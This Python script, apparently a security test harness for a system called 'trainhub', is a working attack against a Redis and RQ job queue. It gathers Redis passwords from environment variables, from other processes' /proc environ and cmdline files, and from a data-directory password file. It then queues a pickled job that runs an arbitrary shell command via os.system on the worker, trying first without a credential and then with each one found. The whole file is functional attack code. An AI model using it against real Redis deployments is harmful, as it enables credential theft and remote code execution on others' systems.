"""A hostile run: reach the site's Redis over the host network and queue a pickled RQ job that runs
a shell command as the server's worker (or a node). Tries without a credential, then with every
credential it can find: its environment, other processes' environments and command lines, the data
directory's redis-password file. Prints Redis's answer to each attempt, never what it found.

Usage: push.py HOST:PORT DATA_DIR QUEUE=SHELL_COMMAND [QUEUE=SHELL_COMMAND ...]
"""

from __future__ import annotations

import glob
import os
import pickle
import re
import socket
import sys
import uuid
import zlib
from datetime import UTC, datetime
from urllib.parse import unquote, urlsplit


def job_commands(queue: str, shell: str) -> list[list[bytes]]:
    """The Redis commands that queue an RQ job running `shell` through os.system: on RQ's queue of
    that name, or on the list of that key (a name with a colon, such as a node's job list)."""
    job_id = uuid.uuid4().hex
    data = zlib.compress(pickle.dumps(("os.system", None, [shell], {}), protocol=4))
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ").encode()
    fields = {
        b"data": data,
        b"origin": queue.encode(),
        b"status": b"queued",
        b"created_at": now,
        b"enqueued_at": now,
        b"description": b"os.system(...)",
        b"timeout": b"180",
    }
    hset = [b"HSET", f"rq:job:{job_id}".encode()] + [part for pair in fields.items() for part in pair]
    if ":" in queue:
        return [hset, [b"RPUSH", queue.encode(), job_id.encode()]]
    return [hset, [b"RPUSH", f"rq:queue:{queue}".encode(), job_id.encode()]]


def send(connection: socket.socket, parts: list[bytes]) -> str:
    message = b"*%d\r\n" % len(parts) + b"".join(b"$%d\r\n%s\r\n" % (len(p), p) for p in parts)
    connection.sendall(message)
    reply = b""
    while not reply.endswith(b"\r\n"):
        chunk = connection.recv(4096)
        if not chunk:
            return "(connection closed)"
        reply += chunk
    return reply.decode(errors="replace").strip()


def found_credentials(data_dir: str) -> list[tuple[str, str]]:
    texts = [value for value in os.environ.values()]
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            texts += open(path, "rb").read().decode(errors="replace").split("\0")
        except OSError:
            pass
    found = []
    for text in texts:
        for url in re.findall(r"rediss?://\S+", text):
            parts = urlsplit(url)
            if parts.password:
                found.append((unquote(parts.username or "default"), unquote(parts.password)))
    try:
        password = open(os.path.join(data_dir, "redis-password")).read().strip()
        found.append(("trainhub", password))
    except OSError as error:
        print(f"ATTACK read redis-password: {type(error).__name__}", flush=True)
    return found


def attempt(address: tuple[str, int], credential: tuple[str, str] | None, parts: list[bytes]) -> str:
    """Redis's answer to `parts` on a new connection, authenticated first with `credential`."""
    try:
        with socket.create_connection(address, timeout=10) as connection:
            if credential is not None:
                answer = send(connection, [b"AUTH", *(part.encode() for part in credential)])
                if not answer.startswith("+OK"):
                    return f"AUTH {answer}"
            return send(connection, parts)
    except OSError as error:
        return f"-CLOSED {type(error).__name__}"


def attack(address: tuple[str, int], label: str, credential: tuple[str, str] | None, jobs: list) -> None:
    print(f"ATTACK {label}: PING -> {attempt(address, credential, [b'PING'])}", flush=True)
    for queue, shell in jobs:
        for parts in job_commands(queue, shell):
            reply = attempt(address, credential, parts)
            print(f"ATTACK {label}: {parts[0].decode()} {queue} -> {reply}", flush=True)
            if parts[0] == b"RPUSH" and reply.startswith(":"):
                print(f"ATTACK {label}: QUEUED on {queue}", flush=True)


def main(argv: list[str]) -> None:
    host, port = argv[0].rsplit(":", 1)
    jobs = [tuple(job.split("=", 1)) for job in argv[2:]]
    address = (host, int(port))
    attack(address, "no credential", None, jobs)
    credentials = found_credentials(argv[1])
    print(f"ATTACK found {len(credentials)} credential(s)", flush=True)
    for number, credential in enumerate(credentials):
        attack(address, f"credential {number}", credential, jobs)


if __name__ == "__main__":
    main(sys.argv[1:])
